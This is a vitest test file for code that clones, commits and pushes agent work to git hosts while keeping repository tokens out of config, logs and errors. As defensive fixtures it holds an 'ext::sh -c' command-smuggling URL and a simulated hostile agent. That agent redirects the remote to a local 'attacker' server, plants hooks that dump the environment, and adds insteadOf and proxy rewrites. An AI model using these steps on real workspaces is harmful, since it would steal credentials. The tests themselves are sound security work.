import { mkdir, mkdtemp, readdir, readFile, rm, stat, unlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { createServer } from 'node:http';
import { connect, createServer as createNetServer, type AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { memoryLogger } from '../../src/shared/log';
import { parseHiring, type Hiring } from '../../src/shared/hiring';
import {
  apiBaseFor,
  checkGitAccess,
  checkPushAccess,
  commitAndPush,
  diffAgainstBase,
  findWorkspace,
  prepareWorkspace,
  pushResultOutput,
  PushError,
  repoLabel,
  repoSlug,
  WorkspaceError,
} from '../../src/relay/delivery';
import { gitCli, gitCliWithToken, HOST_KINDS, startHostedGit, type HostedGit } from '../sandbox-git/helpers';

let hosted: HostedGit;
let rootBase: string;
let scratch: string;
const errors: string[] = [];
/** Every token the tests hand out or make up, for the final no-token-anywhere check. */
const tokens = new Set(['gst_wrongwrongwrong', 'gst_expiredexpired']);
/** Every workspace root and log, one per kind of host. */
const roots: string[] = [];
const logs: ReturnType<typeof memoryLogger>[] = [];
/** A port nothing listens on: an API that is absent. */
const DEAD_API = 'http://127.0.0.1:9/api/v3';

function pushHiring(id: string, token: string | null, url: string): Hiring {
  return parseHiring({ id, status: 'in_progress', delivery_mode: 'push', task_description: `Task ${id}`, repo_url: url, repo_access_token: token });
}

async function caught<T>(p: Promise<T>): Promise<Error> {
  try {
    await p;
  } catch (e) {
    errors.push((e as Error).message);
    return e as Error;
  }
  throw new Error('expected a failure');
}

async function exists(p: string): Promise<boolean> {
  return stat(p).then(
    () => true,
    () => false,
  );
}

/** Every git command line the delivery code runs, recorded by a wrapper first on PATH. */
let argvLog: string;
const originalPath = process.env.PATH;

beforeAll(async () => {
  scratch = await mkdtemp(join(tmpdir(), 'delivery-scratch-'));
  const wrapperDir = join(scratch, 'bin');
  argvLog = join(scratch, 'git-argv.log');
  await mkdir(wrapperDir);
  const realGit = (await gitCli(['--exec-path'])).stdout.trim() + '/git';
  await writeFile(join(wrapperDir, 'git'), `#!/bin/sh\nprintf '%s\\n' "$*" >> '${argvLog}'\nexec '${realGit}' "$@"\n`, { mode: 0o755 });
  process.env.PATH = `${wrapperDir}:${originalPath ?? ''}`;
  hosted = await startHostedGit();
  rootBase = await mkdtemp(join(tmpdir(), 'delivery-ws-'));
});

afterAll(async () => {
  process.env.PATH = originalPath;
  await hosted?.close();
  await rm(rootBase, { recursive: true, force: true });
  await rm(scratch, { recursive: true, force: true });
});

describe('GitHub API location', () => {
  it('maps github.com to api.github.com and other hosts to <origin>/api/v3; names repositories by host and path', () => {
    expect(apiBaseFor('https://github.com/acme/app.git')).toBe('https://api.github.com');
    expect(apiBaseFor('https://git.example.com:8443/acme/app')).toBe('https://git.example.com:8443/api/v3');
    expect(apiBaseFor('https://github.com/a/b', 'https://ghe.local/api/v3/')).toBe('https://ghe.local/api/v3');
    expect(repoSlug('http://127.0.0.1:1234/git/acme/app.git')).toEqual({ owner: 'acme', repo: 'app' });
    // No owner segment: nothing a GitHub-style API could address, and nothing that stops git.
    expect(repoSlug('https://git.example.com/app.git')).toBeUndefined();
    expect(repoLabel('https://git.example.com/app.git')).toBe('git.example.com/app');
    expect(repoLabel('https://git.example.com:8443/scm/team/sub/app.git')).toBe('git.example.com:8443/scm/team/sub/app');
  });
});

/** The repository of one kind of host, as a push-mode hiring names it. */
interface HostCase {
  url: string;
  owner: string;
  name: string;
  write: string;
  read: string;
  root: string;
  log: ReturnType<typeof memoryLogger>;
  /** `127.0.0.1:PORT`, as errors name the host. */
  host: string;
  /** `127.0.0.1:PORT/git/acme/app`, as errors and progress name the repository. */
  label: string;
}

describe.each(HOST_KINDS)('push mode on $label', ({ kind }) => {
  const c = {} as HostCase;
  const hiring = (id: string, token: string | null, url = c.url) => pushHiring(id, token, url);
  const withApi = kind === 'github';

  beforeAll(async () => {
    c.owner = 'acme';
    c.name = `app-${kind}`;
    const repo = await hosted.hosting.createRepository(c.owner, c.name, {
      host: kind,
      files: { 'README.md': '# App\n', 'src/index.ts': 'export const x = 1;\n', 'old.txt': 'remove me\n' },
    });
    c.url = repo.cloneUrl;
    c.write = hosted.hosting.issueToken(c.owner, c.name, 'write');
    c.read = hosted.hosting.issueToken(c.owner, c.name, 'read');
    tokens.add(c.write).add(c.read);
    c.root = join(rootBase, kind);
    roots.push(c.root);
    c.log = memoryLogger(`delivery-${kind}`);
    logs.push(c.log);
    c.host = new URL(c.url).host;
    c.label = `${c.host}${new URL(c.url).pathname.replace(/\.git$/, '')}`;
  });

  it('gets a clone URL of its own kind', () => {
    const forms = { github: `${hosted.base}/git/acme/app-github.git`, plain: `${hosted.plainBase}/acme/app-plain.git`, 'plain-flat': `${hosted.plainBase}/app-plain-flat.git` };
    expect(c.url).toBe(forms[kind]);
  });

  it(withApi ? 'asks the GitHub-style API for write access' : 'finds no GitHub-style API (401 everywhere) and lets git decide', async () => {
    const api = await checkPushAccess(c.url, c.write);
    if (withApi) expect(api).toEqual({ kind: 'push' });
    else if (kind === 'plain') expect(api).toEqual({ kind: 'no-api', reason: `${c.host}'s GitHub-style API is absent (http://${c.host}/api/v3 answered HTTP 401)` });
    else expect(api).toMatchObject({ kind: 'no-api', reason: expect.stringMatching(/no owner\/name path/) });
    expect(await checkGitAccess({ url: c.url, token: c.write })).toEqual({ kind: 'push' });
    expect(await checkGitAccess({ url: c.url, token: c.read })).toMatchObject({ kind: 'forbidden', step: 'write', status: 403 });
    expect(await checkGitAccess({ url: c.url, token: 'gst_wrongwrongwrong' })).toMatchObject({ kind: 'rejected', step: 'read', status: 401 });
  });

  describe('prepareWorkspace', () => {
    it('clones on branch agrenting/<id>, reports progress, and keeps the token out of the remote and config', async () => {
      const progress: string[] = [];
      const ws = await prepareWorkspace(hiring('h-clone', c.write), { root: c.root, log: c.log, onProgress: (m) => progress.push(m) });
      expect(ws.dir).toBe(join(c.root, 'h-clone'));
      expect(ws.branch).toBe('agrenting/h-clone');
      expect(ws.baseBranch).toBe('main');
      expect(ws.baseSha).toBe(await hosted.hosting.branchSha(c.owner, c.name, 'main'));
      expect(await readFile(join(ws.dir, 'src/index.ts'), 'utf8')).toBe('export const x = 1;\n');
      expect((await gitCli(['branch', '--show-current'], ws.dir)).stdout.trim()).toBe('agrenting/h-clone');
      expect(progress[0]).toBe(`Checking write access to ${c.label}`);
      expect(progress.at(-1)).toMatch(/Workspace ready on branch agrenting\/h-clone/);
      const remote = (await gitCli(['remote', '-v'], ws.dir)).stdout;
      expect(remote).toContain(c.url);
      expect(remote).not.toContain(c.write);
      expect(c.log.lines.some((l) => l.includes('no GitHub-style API: git checks access'))).toBe(!withApi);
    });

    it('finds the workspace again after a restart and reuses it without cloning', async () => {
      const found = await findWorkspace('h-clone', c.root);
      expect(found).toMatchObject({ dir: join(c.root, 'h-clone'), branch: 'agrenting/h-clone', baseBranch: 'main' });
      await writeFile(join(c.root, 'h-clone', 'work-in-progress.txt'), 'kept\n');
      const again = await prepareWorkspace(hiring('h-clone', c.write), { root: c.root, log: c.log });
      expect(again).toEqual(found);
      expect(await readFile(join(c.root, 'h-clone', 'work-in-progress.txt'), 'utf8')).toBe('kept\n');
      expect(await findWorkspace('h-never', c.root)).toBeUndefined();
    });

    it('refuses a read-only token before cloning anything', async () => {
      const err = await caught(prepareWorkspace(hiring('h-readonly', c.read), { root: c.root, log: c.log }));
      expect(err).toBeInstanceOf(WorkspaceError);
      expect(err.message).toBe(
        withApi
          ? `The repository token for hiring h-readonly cannot push to ${c.label}: the GitHub API of ${c.host} reports read-only access.`
          : `The repository token for hiring h-readonly can read ${c.label} but git at ${c.host} refused to let it push (HTTP 403).`,
      );
      expect((err as WorkspaceError).step).toBe('access');
      expect(await exists(join(c.root, 'h-readonly'))).toBe(false);
    });

    it('refuses a wrong token before cloning, naming the host and that git refused it', async () => {
      // On the GitHub-like host too: its API's 401 off github.com is not trusted to mean "wrong token", git decides.
      const err = await caught(prepareWorkspace(hiring('h-wrong', 'gst_wrongwrongwrong'), { root: c.root, log: c.log }));
      expect((err as WorkspaceError).step).toBe('access');
      expect(err.message).toBe(`git at ${c.host} refused the repository token for hiring h-wrong (HTTP 401); it may be wrong or expired.`);
      expect(await exists(join(c.root, 'h-wrong'))).toBe(false);
    });

    it('lets git decide when a configured API base does not answer, and git rejects a wrong token cleanly', async () => {
      const opts = { root: c.root, log: c.log, githubApiBase: DEAD_API };
      const err = await caught(prepareWorkspace(hiring('h-wrong-git', 'gst_wrongwrongwrong'), opts));
      expect(err).toBeInstanceOf(WorkspaceError);
      expect((err as WorkspaceError).step).toBe('access');
      expect(err.message).toBe(`git at ${c.host} refused the repository token for hiring h-wrong-git (HTTP 401); it may be wrong or expired.`);
      expect(await exists(join(c.root, 'h-wrong-git'))).toBe(false);
      const why = kind === 'plain-flat' ? 'no owner/name path' : `127.0.0.1:9's GitHub-style API did not answer`;
      expect(c.log.lines.some((l) => l.includes('no GitHub-style API: git checks access hiring=h-wrong-git') && l.includes(why))).toBe(true);
      // With the right token the same dead API changes nothing: git lets it push, the clone goes ahead.
      const ws = await prepareWorkspace(hiring('h-dead-api', c.write), opts);
      expect(ws.branch).toBe('agrenting/h-dead-api');
    });

    it('names the host when the repository is not there', async () => {
      const missing = c.url.replace(`${c.name}.git`, 'nope.git');
      const err = await caught(prepareWorkspace(hiring('h-missing', c.write, missing), { root: c.root, log: c.log }));
      expect((err as WorkspaceError).step).toBe('access');
      const label = c.label.replace(c.name, 'nope');
      expect(err.message).toBe(`git at ${c.host} found no repository ${label} for hiring h-missing, or its token cannot see it (HTTP 404).`);
    });

    it('rejects path tricks, other transports, and missing repository fields', async () => {
      const o = { root: c.root, log: c.log };
      await expect(prepareWorkspace(hiring('../escape', c.write), o)).rejects.toMatchObject({ step: 'input' });
      await expect(prepareWorkspace(hiring('a/b', c.write), o)).rejects.toThrow(/cannot name a workspace folder/);
      await expect(prepareWorkspace(hiring('h-ext', c.write, 'ext::sh -c touch% /tmp/pwned'), o)).rejects.toThrow(/http\(s\)|invalid repository URL/);
      await expect(prepareWorkspace(hiring('h-notoken', null), o)).rejects.toThrow('Hiring h-notoken has no repository token: it cannot be delivered by push.');
      await expect(prepareWorkspace(parseHiring({ id: 'h-nourl', delivery_mode: 'push' }), o)).rejects.toThrow(/no repository URL/);
    });

    it('shares one preparation between concurrent callers', async () => {
      const h = hiring('h-concurrent', c.write);
      const [a, b] = await Promise.all([prepareWorkspace(h, { root: c.root, log: c.log }), prepareWorkspace(h, { root: c.root, log: c.log })]);
      expect(a).toEqual(b);
      expect(c.log.lines.filter((l) => l.includes('cloning hiring=h-concurrent'))).toHaveLength(1);
    });

    it('never deletes a folder at the workspace path that is not a workspace', async () => {
      await mkdir(join(c.root, 'h-occupied'), { recursive: true });
      await writeFile(join(c.root, 'h-occupied', 'precious.txt'), 'keep\n');
      const err = await caught(prepareWorkspace(hiring('h-occupied', c.write), { root: c.root, log: c.log }));
      expect(err.message).toMatch(/already exists and is not a git workspace; move it away/);
      expect(await readFile(join(c.root, 'h-occupied', 'precious.txt'), 'utf8')).toBe('keep\n');
      await rm(join(c.root, 'h-occupied'), { recursive: true });
    });

    it('refuses an empty repository clearly', async () => {
      const { cloneUrl } = await hosted.hosting.createRepository(c.owner, `${c.name}-empty`, { host: kind });
      // Make it truly empty: delete main from the bare repository.
      await gitCli(['update-ref', '-d', 'refs/heads/main'], join(hosted.root, c.owner, `${c.name}-empty.git`));
      const token = hosted.hosting.issueToken(c.owner, `${c.name}-empty`, 'write');
      tokens.add(token);
      const err = await caught(prepareWorkspace(hiring('h-emptyrepo', token, cloneUrl), { root: c.root, log: c.log }));
      expect(err.message).toBe(`Repository ${c.label}-empty of hiring h-emptyrepo is empty: push mode needs a base branch with at least one commit.`);
    });

    it('strips credentials embedded in the repository URL (the tutorial form) from .git/config', async () => {
      const withCreds = c.url.replace('http://', `http://x-access-token:${c.write}@`);
      const ws = await prepareWorkspace(hiring('h-creds', c.write, withCreds), { root: c.root, log: c.log });
      const config = await readFile(join(ws.dir, '.git', 'config'), 'utf8');
      expect(config).not.toContain(c.write);
      expect(config).toContain(c.url);
    });
  });

  describe('diffAgainstBase', () => {
    it('shows committed, uncommitted and untracked changes without touching the index', async () => {
      const ws = await prepareWorkspace(hiring('h-diff', c.write), { root: c.root, log: c.log });
      await writeFile(join(ws.dir, 'src/index.ts'), 'export const x = 2;\n');
      await writeFile(join(ws.dir, 'new-file.ts'), 'export const added = true;\n');
      await unlink(join(ws.dir, 'old.txt'));
      const diff = await diffAgainstBase(ws);
      expect(diff.files).toEqual([
        { path: 'new-file.ts', status: 'added' },
        { path: 'old.txt', status: 'deleted' },
        { path: 'src/index.ts', status: 'modified' },
      ]);
      expect(diff.patch).toContain('+export const added = true;');
      expect(diff.patch).toContain('-export const x = 1;');
      const status = (await gitCli(['status', '--porcelain'], ws.dir)).stdout;
      expect(status).toContain('?? new-file.ts');
    });
  });

  describe('commitAndPush', () => {
    it(
      withApi
        ? 'commits, pushes and opens a pull request; the branch holds exactly the changes'
        : 'commits and pushes; no pull request (no API), and the result says so and why',
      async () => {
        const h = hiring('h-push', c.write);
        const ws = await prepareWorkspace(h, { root: c.root, log: c.log });
        await writeFile(join(ws.dir, 'src/index.ts'), 'export const x = 42;\n');
        await writeFile(join(ws.dir, 'src/feature.ts'), 'export const feature = 1;\n');
        const progress: string[] = [];
        const result = await commitAndPush(ws, h, {
          message: 'Implement the feature\n\nFor hiring h-push.',
          author: { name: 'Ada Worker', email: 'ada@example.invalid' },
          openPullRequest: true,
          prBody: 'Delivered by the relay.',
          log: c.log,
          onProgress: (m) => progress.push(m),
        });
        expect(result.branch).toBe('agrenting/h-push');
        expect(result.files_changed.sort()).toEqual(['src/feature.ts', 'src/index.ts']);
        expect(result.commit).toBe(await hosted.hosting.branchSha(c.owner, c.name, 'agrenting/h-push'));
        expect(progress).toContain('Delivered');
        const prs = () => hosted.hosting.pullRequests(c.owner, c.name).filter((p) => p.head.ref === 'agrenting/h-push');
        if (withApi) {
          expect(result.pr_number).toBeGreaterThan(0);
          expect(result.pr_url).toBe(`${hosted.base}/git/${c.owner}/${c.name}/pull/${result.pr_number}`);
          const pr = prs().find((p) => p.number === result.pr_number);
          expect(pr).toMatchObject({ title: 'Implement the feature', head: { ref: 'agrenting/h-push', sha: result.commit }, base: { ref: 'main' }, body: 'Delivered by the relay.' });
          expect(pushResultOutput(result, 'Added the feature')).toEqual({
            summary: 'Added the feature',
            branch: 'agrenting/h-push',
            commit: result.commit,
            files_changed: result.files_changed,
            pull_request_url: result.pr_url,
            pull_request_number: result.pr_number,
          });
        } else {
          expect(result.pr_url).toBeUndefined();
          expect(prs()).toEqual([]);
          const why =
            kind === 'plain'
              ? `${c.host}'s GitHub-style API is absent (http://${c.host}/api/v3 answered HTTP 401)`
              : 'the repository URL has no owner/name path a GitHub-style API could address';
          expect(result.pr_skipped).toBe(why);
          expect(pushResultOutput(result, 'Added the feature')).toEqual({
            summary: 'Added the feature',
            branch: 'agrenting/h-push',
            commit: result.commit,
            files_changed: result.files_changed,
            delivery_note: `Branch agrenting/h-push was pushed; no pull request was opened because ${why}.`,
          });
        }

        const author = (await gitCli(['log', '-1', '--format=%an <%ae>|%s'], ws.dir)).stdout.trim();
        expect(author).toBe('Ada Worker <ada@example.invalid>|Implement the feature');

        const fresh = join(scratch, `fresh-h-push-${kind}`);
        expect((await gitCliWithToken(['clone', '-q', c.url, fresh], c.write)).code).toBe(0);
        const names = (await gitCli(['diff', '--name-only', 'main', 'origin/agrenting/h-push'], fresh)).stdout.trim().split('\n').sort();
        expect(names).toEqual(result.files_changed.sort());
        expect(await readFile(join(fresh, 'src/index.ts'), 'utf8')).toBe('export const x = 1;\n');

        // A retry after success changes nothing: same commit, same pull request (or still none).
        const again = await commitAndPush(ws, h, { message: 'Implement the feature', openPullRequest: true, log: c.log });
        expect(again).toEqual(result);
        expect(prs()).toHaveLength(withApi ? 1 : 0);
      },
    );

    it('resumes after a failed push: the retry pushes the commit already made', async () => {
      const good = hiring('h-resume', c.write);
      const ws = await prepareWorkspace(good, { root: c.root, log: c.log });
      await writeFile(join(ws.dir, 'resume.txt'), 'resume\n');
      const expired = hiring('h-resume', 'gst_expiredexpired');
      const err = await caught(commitAndPush(ws, expired, { message: 'Resume work', log: c.log }));
      expect(err).toBeInstanceOf(PushError);
      expect((err as PushError).step).toBe('push');
      expect(err.message).toBe(
        `Pushing agrenting/h-resume of hiring h-resume to ${c.label} failed: git at ${c.host} refused the repository token (HTTP 401); it may be wrong or expired.`,
      );
      const committed = (await gitCli(['rev-parse', 'HEAD'], ws.dir)).stdout.trim();
      expect(committed).not.toBe(ws.baseSha);
      expect(await hosted.hosting.branchSha(c.owner, c.name, 'agrenting/h-resume')).toBeUndefined();

      const ro = await caught(commitAndPush(ws, hiring('h-resume', c.read), { message: 'Resume work', log: c.log }));
      expect(ro.message).toMatch(`Pushing agrenting/h-resume of hiring h-resume to ${c.label} failed: git at ${c.host} refused to let the repository token push (403)`);

      const result = await commitAndPush(ws, good, { message: 'Resume work', log: c.log });
      expect(result.commit).toBe(committed);
      expect(result.files_changed).toEqual(['resume.txt']);
      expect(await hosted.hosting.branchSha(c.owner, c.name, 'agrenting/h-resume')).toBe(committed);
    });

    if (withApi) {
      it('resumes after a failed pull request without pushing again', async () => {
        const h = hiring('h-pr-retry', c.write);
        const ws = await prepareWorkspace(h, { root: c.root, log: c.log });
        await writeFile(join(ws.dir, 'pr.txt'), 'pr\n');
        const err = await caught(commitAndPush(ws, h, { message: 'PR retry', openPullRequest: true, githubApiBase: DEAD_API, log: c.log }));
        expect((err as PushError).step).toBe('pull_request');
        expect(err.message).toMatch(/^The branch agrenting\/h-pr-retry of hiring h-pr-retry was pushed, but opening the pull request failed/);
        const pushed = await hosted.hosting.branchSha(c.owner, c.name, 'agrenting/h-pr-retry');
        expect(pushed).toBeDefined();
        const from = c.log.lines.length;
        const result = await commitAndPush(ws, h, { message: 'PR retry', openPullRequest: true, log: c.log });
        expect(result.commit).toBe(pushed);
        expect(result.pr_url).toMatch(/\/git\/acme\/app-github\/pull\/\d+$/);
        expect(c.log.lines.slice(from).some((l) => l.includes('branch already pushed'))).toBe(true);
      });
    }

    it('explains a push rejected because the remote branch moved on', async () => {
      const h = hiring('h-diverged', c.write);
      const ws = await prepareWorkspace(h, { root: c.root, log: c.log });
      await writeFile(join(ws.dir, 'mine.txt'), 'mine\n');
      await commitAndPush(ws, h, { message: 'First', log: c.log });
      // Someone else pushes to the same branch in the meantime.
      const other = join(scratch, `other-h-diverged-${kind}`);
      await gitCliWithToken(['clone', '-q', '-b', 'agrenting/h-diverged', c.url, other], c.write);
      await writeFile(join(other, 'theirs.txt'), 'theirs\n');
      await gitCli(['add', '-A'], other);
      await gitCli(['commit', '-q', '-m', 'Theirs'], other);
      expect((await gitCliWithToken(['push', '-q', 'origin', 'agrenting/h-diverged'], c.write, other)).code).toBe(0);

      await writeFile(join(ws.dir, 'mine.txt'), 'mine, revised\n');
      const err = await caught(commitAndPush(ws, h, { message: 'Second', log: c.log }));
      expect((err as PushError).step).toBe('push');
      expect(err.message).toBe(
        `Pushing agrenting/h-diverged of hiring h-diverged to ${c.label} failed: the remote branch has commits this workspace does not have ` +
          '(someone else pushed to it). Pull them into the workspace, then deliver again.',
      );
    });

    it('reports an unreachable repository as a push failure naming the host, and pushes once it is back', async () => {
      // The repository is reached through a TCP relay we can cut, as a network outage would.
      let up = true;
      const target = Number(new URL(c.url).port);
      const proxy = createNetServer((client) => {
        if (!up) return client.destroy();
        const server = connect(target, '127.0.0.1');
        client.pipe(server).pipe(client);
        const close = () => {
          client.destroy();
          server.destroy();
        };
        client.on('error', close);
        server.on('error', close);
      });
      await new Promise<void>((r) => proxy.listen(0, '127.0.0.1', r));
      try {
        const viaProxy = c.url.replace(/:\d+\//, `:${(proxy.address() as AddressInfo).port}/`);
        const h = hiring('h-offline', c.write, viaProxy);
        const ws = await prepareWorkspace(h, { root: c.root, log: c.log });
        await writeFile(join(ws.dir, 'offline.txt'), 'offline\n');
        up = false;
        const err = await caught(commitAndPush(ws, h, { message: 'Offline', log: c.log }));
        expect((err as PushError).step).toBe('push');
        expect(err.message).toMatch(`Pushing agrenting/h-offline of hiring h-offline to ${new URL(viaProxy).host}`);
        expect(err.message).toMatch(`failed: git could not reach ${new URL(viaProxy).host}.`);
        up = true;
        const result = await commitAndPush(ws, h, { message: 'Offline', log: c.log });
        expect(await hosted.hosting.branchSha(c.owner, c.name, 'agrenting/h-offline')).toBe(result.commit);
      } finally {
        await new Promise<void>((r) => proxy.close(() => r()));
      }
    });

    it('keeps the token from a workspace the agent tampered with: other remotes, URL rewrites, hooks', async () => {
      const seen: (string | undefined)[] = [];
      const attacker = createServer((req, res) => {
        seen.push(req.headers.authorization);
        res.writeHead(404).end();
      });
      await new Promise<void>((r) => attacker.listen(0, '127.0.0.1', r));
      const evil = `http://127.0.0.1:${(attacker.address() as AddressInfo).port}`;
      try {
        const h = hiring('h-tampered', c.write);
        const ws = await prepareWorkspace(h, { root: c.root, log: c.log });
        await writeFile(join(ws.dir, 'work.txt'), 'work\n');
        // What a hostile agent could do inside its workspace:
        const dump = join(scratch, `hook-env-${kind}.txt`);
        await gitCli(['remote', 'set-url', 'origin', `${evil}/steal.git`], ws.dir);
        await gitCli(['remote', 'set-url', '--push', 'origin', `${evil}/steal.git`], ws.dir);
        for (const hook of ['pre-push', 'reference-transaction', 'post-commit']) {
          await writeFile(join(ws.dir, '.git', 'hooks', hook), `#!/bin/sh\nenv >> '${dump}'\n`, { mode: 0o755 });
        }
        const result = await commitAndPush(ws, h, { message: 'Work', log: c.log });
        expect(await hosted.hosting.branchSha(c.owner, c.name, 'agrenting/h-tampered')).toBe(result.commit);
        expect(seen).toEqual([]);
        // No hook ran at all: hooks are workspace code, and the relay runs none of them.
        const dumped = await readFile(dump, 'utf8').catch(() => '');
        expect(dumped).toBe('');

        // A URL rewrite or a proxy planted in the workspace config is removed before the push,
        // which goes where it should; the attacker hears nothing.
        await gitCli(['config', `url.${evil}/.insteadOf`, `${new URL(c.url).origin}/`], ws.dir);
        await gitCli(['config', 'http.proxy', evil], ws.dir);
        await writeFile(join(ws.dir, 'more.txt'), 'more\n');
        const again = await commitAndPush(ws, h, { message: 'More', log: c.log });
        expect(await hosted.hosting.branchSha(c.owner, c.name, 'agrenting/h-tampered')).toBe(again.commit);
        expect(seen).toEqual([]);
        const config = await readFile(join(ws.dir, '.git', 'config'), 'utf8');
        expect(config).not.toMatch(/insteadOf|proxy/);
      } finally {
        attacker.closeAllConnections();
        await new Promise<void>((r) => attacker.close(() => r()));
      }
    });

    it('fails clearly when there is nothing to push', async () => {
      const h = hiring('h-empty', c.write);
      const ws = await prepareWorkspace(h, { root: c.root, log: c.log });
      const err = await caught(commitAndPush(ws, h, { message: 'Nothing', log: c.log }));
      expect((err as PushError).step).toBe('commit');
      expect(err.message).toBe('Nothing to push for hiring h-empty: the workspace has no changes against main.');
    });
  });
});

describe('no token anywhere', () => {
  async function filesUnder(dir: string): Promise<string[]> {
    const out: string[] = [];
    for (const entry of await readdir(dir, { withFileTypes: true })) {
      const p = join(dir, entry.name);
      if (entry.isDirectory()) out.push(...(await filesUnder(p)));
      else if (entry.isFile()) out.push(p);
    }
    return out;
  }

  it('leaves no token in any workspace .git file, reflog, remote, config, log line, git command line or error', async () => {
    const needles = [...tokens].flatMap((t) => [t, Buffer.from(`x-access-token:${t}`).toString('base64')]);
    expect(roots).toHaveLength(HOST_KINDS.length);
    const workspaces = (await Promise.all(roots.map(async (r) => (await readdir(r)).map((d) => join(r, d))))).flat();
    expect(workspaces.length).toBeGreaterThanOrEqual(5 * HOST_KINDS.length);
    const haystacks: { where: string; text: string }[] = [];
    for (const ws of workspaces) {
      for (const file of await filesUnder(join(ws, '.git'))) haystacks.push({ where: file, text: (await readFile(file)).toString('latin1') });
      haystacks.push({ where: `${ws} reflog`, text: (await gitCli(['reflog', '--all'], ws)).stdout });
      haystacks.push({ where: `${ws} remote -v`, text: (await gitCli(['remote', '-v'], ws)).stdout });
      haystacks.push({ where: `${ws} config`, text: (await gitCli(['config', '--list', '--show-origin'], ws)).stdout });
    }
    const logText = logs.map((l) => l.lines.join('\n')).join('\n');
    haystacks.push({ where: 'log', text: logText });
    const argv = await readFile(argvLog, 'utf8');
    expect(argv).toMatch(/^clone .*\/git\/acme\/app-github\.git/m);
    expect(argv).toMatch(/^clone .*\/acme\/app-plain\.git/m);
    expect(argv).toMatch(/^clone .*:\d+\/app-plain-flat\.git/m);
    // git's own access check on the plain hosts: ls-remote, then a dry-run push for receive-pack.
    expect(argv).toMatch(/^ls-remote -- .*\/app-plain-flat\.git HEAD/m);
    expect(argv).toMatch(/^push --dry-run --porcelain -- .*\/app-plain-flat\.git/m);
    expect(argv).toMatch(/^push /m);
    haystacks.push({ where: 'git command lines', text: argv });
    haystacks.push({ where: 'errors', text: errors.join('\n') });
    expect(errors.length).toBeGreaterThanOrEqual(5 * HOST_KINDS.length);
    // Stronger than "redacted": no secret ever reached the logger at all.
    expect(logText).not.toContain('[REDACTED]');
    for (const { where, text } of haystacks) {
      for (const needle of needles) expect(text.includes(needle), `token found in ${where}`).toBe(false);
    }
  });
});
